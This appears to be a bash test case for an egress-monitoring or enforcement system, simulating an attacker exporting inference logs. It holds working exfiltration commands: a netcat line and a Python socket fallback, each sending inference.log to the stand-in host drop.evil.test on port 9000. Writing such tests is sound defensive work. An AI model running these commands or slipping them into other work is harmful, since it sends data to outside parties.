#!/bin/bash
# title: inference logs exported with netcat to an attacker's listener (nc host port < log)
# expect-monitor: unexpected_egress log_export tool_egress
# expect-enforce: unexpected_egress tool_egress
# block: zero
# target: drop
source "$(dirname "$0")/../lib.sh"
if command -v nc >/dev/null; then
  send="nc -q 1 -w 10 drop.evil.test 9000 < $DATA/logs/inference.log"
else  # no netcat on this host: the same with python sockets
  send="$PY -c 'import socket; s = socket.create_connection((\"drop.evil.test\", 9000), 5); s.sendall(open(\"$DATA/logs/inference.log\", \"rb\").read()); s.close()'"
fi
in_cgroup inference sh -c "echo T0=\$(date +%s%3N) && exec $send"
echo "exit $?"
